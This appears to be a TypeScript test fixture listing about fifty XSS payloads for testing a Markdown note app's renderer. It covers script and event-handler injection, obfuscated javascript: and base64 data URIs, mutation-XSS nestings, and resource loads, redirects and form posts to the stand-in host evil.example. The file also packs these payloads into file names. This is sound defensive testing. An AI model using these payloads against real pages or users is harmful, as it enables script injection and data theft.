/**
 * The hostile texts of every test: vectors that have run somewhere (scripts, handlers, addresses,
 * styles, markup that grows when it is read twice), and the same in the forms that views show.
 */

/** Each sets `compromised` on the window, or asks evil.example for something, wherever it is more than words. */
export const vectors: readonly string[] = [
  '<script>compromised = true</script>',
  '<img src=x onerror="compromised=true">',
  '<svg onload="compromised=true"><animate onbegin="compromised=true" attributeName=x></svg>',
  '<svg><script>compromised=true</script></svg>',
  '<iframe src="javascript:parent.compromised=true"></iframe>',
  '<iframe srcdoc="<script>parent.compromised=true</script>"></iframe>',
  '<object data="javascript:compromised=true"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<details open ontoggle="compromised=true">x</details>',
  '<video src="https://evil.example/v.mp4" autoplay onerror="compromised=true"></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=compromised=true&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=compromised=true>">',
  '<a href="javascript:compromised=true">click</a>',
  '[click](javascript:compromised=true)',
  '[click](<java\tscript:compromised=true>)',
  '[click](&#106;avascript:compromised=true)',
  '[click](data:text/html,<script>compromised=true</script>)',
  '[click](vbscript:compromised)',
  '[ref][evil]\n\n[evil]: javascript:compromised=true',
  '<javascript:compromised=true>',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '![x](javascript:compromised=true)',
  '![x](data:text/html;base64,PHNjcmlwdD5jb21wcm9taXNlZD10cnVlPC9zY3JpcHQ+)',
  '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iY29tcHJvbWlzZWQ9dHJ1ZSIvPg==)',
  '![x" onerror="compromised=true](assets/deck.png)',
  '![[https://evil.example/x.png]]',
  '![[assets/hostile.svg]]',
  '[[<img src=x onerror=compromised=true>]]',
  '[[javascript:compromised=true|click]]',
  '[[a|<svg onload=compromised=true>]]',
  '#<img/src=x/onerror=compromised=true>',
  '`<img src=x onerror=compromised=true>`',
  '```"><img src=x onerror=compromised=true>\n<script>compromised=true</script>\n```',
  '$\\href{javascript:compromised=true}{x}$ and $\\includegraphics{https://evil.example/x.png}$ and $\\htmlData{x=y}{z}$',
  '$$\n\\url{javascript:compromised=true}\n$$',
  '> [!"><img src=x onerror=compromised=true>] title\n> body',
  '> [!note" onmouseover="compromised=true] title',
  '[^<img src=x onerror=compromised=true>]\n\n[^<img src=x onerror=compromised=true>]: note',
  '%%<script>compromised=true</script>%%',
  '| <img src=x onerror=compromised=true> | b |\n|---|---|\n| <script>compromised=true</script> | [x](javascript:compromised=true) |',
  '- [ ] <input autofocus onfocus="compromised=true">',
  '==<b onclick=compromised=true>x</b>== ~~<i onclick=compromised=true>y</i>~~',
  '(k:: <img src=x onerror=compromised=true>)',
  'text ^<img/src/onerror=compromised=true>',
  '{{constructor.constructor("compromised=true")()}}',
];

export interface HostileText {
  /** A harmless word that stands before the vector: what a view must show for the test to mean anything. */
  readonly marker: string;
  readonly text: string;
  /** The marker and the vector in one line, as names, subjects and titles are. */
  readonly line: string;
  /** The line as far as a vault takes it for a file's name: without slashes of either kind. */
  readonly name: string;
}

const mostNameBytes = 180;
/** A name on disk has 255 at most, its `.md` included. */
const mostPackedBytes = 250;

/** The corpus as few names, for what has room for few: as many vectors in each as fit. */
export function packedNames(): readonly string[] {
  const packs: string[] = [];
  for (const { name } of corpus) {
    const joined = `${packs.at(-1) ?? ''} ${name}`;
    if (packs.length === 0 || Buffer.byteLength(joined) > mostPackedBytes) packs.push(name);
    else packs[packs.length - 1] = joined;
  }
  return packs;
}

function fileName(line: string): string {
  let name = line.replaceAll('/', '\u2215').replaceAll('\\', '\u29F5');
  while (Buffer.byteLength(name) > mostNameBytes) name = name.slice(0, -1);
  return name.trim();
}

export const corpus: readonly HostileText[] = vectors.map((text, index) => {
  const marker = `vector${String(index + 1).padStart(2, '0')}`;
  const line = `${marker} ${text.replaceAll(/\s+/gu, ' ')}`;
  return { marker, text, line, name: fileName(line) };
});
